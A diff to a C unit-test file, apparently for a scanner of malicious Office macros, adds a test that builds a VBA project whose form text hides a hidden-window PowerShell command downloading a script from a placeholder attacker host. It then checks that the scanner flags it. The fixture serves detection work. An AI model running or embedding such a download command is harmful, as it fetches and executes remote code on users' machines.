@@ -896,6 +896,46 @@ START_TEST(dde_fields)
 }
 END_TEST
 
+/* A VBA project whose form holds the payload in a control's text. */
+START_TEST(userform_text)
+{
+	static const char mod[] = "Attribute VB_Name = \"Module1\"\r\n"
+	    "Sub Go()\r\n  x = UserForm1.TextBox1.Text\r\nEnd Sub\r\n";
+	static const char otext[] = "\x00\x02\x18\x00cmd /c powershell -w "
+	    "hidden iwr http://evil.example/x.ps1\x00\x00Label1\x00";
+	struct cfb_ent e[7];
+	GByteArray *src = ovba_compress(mod, strlen(mod));
+	GByteArray *dir = vba_dir("Module1");
+	GByteArray *empty = g_byte_array_new(), *f = g_byte_array_new();
+	GByteArray *o = g_byte_array_new();
+	GByteArray *cfb;
+	char *json;
+	const char *const want[] = { "\"UserForm1 (form text)\"",
+		"\"MACRO_SUSPICIOUS\"", "powershell",
+		"\"http://evil.example/x.ps1\"", "\"MACRO_URL\"", NULL };
+
+	g_byte_array_append(f, (const uint8_t *)"\x00\x04\x10\x00", 4);
+	g_byte_array_append(o, (const uint8_t *)otext, sizeof(otext) - 1);
+	e[0] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
+	e[1] = (struct cfb_ent){ "VBA", 0, true, empty };
+	e[2] = (struct cfb_ent){ "dir", 1, false, dir };
+	e[3] = (struct cfb_ent){ "Module1", 1, false, src };
+	e[4] = (struct cfb_ent){ "UserForm1", 0, true, empty };
+	e[5] = (struct cfb_ent){ "f", 4, false, f };
+	e[6] = (struct cfb_ent){ "o", 4, false, o };
+	cfb = cfb_build(e, 7);
+	json = scan_json(cfb->data, cfb->len, "vbaProject.bin");
+	want_in(json, want, true);
+	g_free(json);
+	g_byte_array_free(cfb, TRUE);
+	g_byte_array_free(src, TRUE);
+	g_byte_array_free(dir, TRUE);
+	g_byte_array_free(empty, TRUE);
+	g_byte_array_free(f, TRUE);
+	g_byte_array_free(o, TRUE);
+}
+END_TEST
+
 /* oleobj's samples: OLE packages inside .doc and .ppt, unpacked. */
 START_TEST(corpus_ole_packages)
 {
@@ -948,6 +988,7 @@ office_suite(void)
 	tcase_add_test(tc, ooxml_external_links_and_schemes);
 	tcase_add_test(tc, dde_fields);
 	tcase_add_test(tc, corpus_ole_packages);
+	tcase_add_test(tc, userform_text);
 	suite_add_tcase(s, tc);
 	return s;
 }
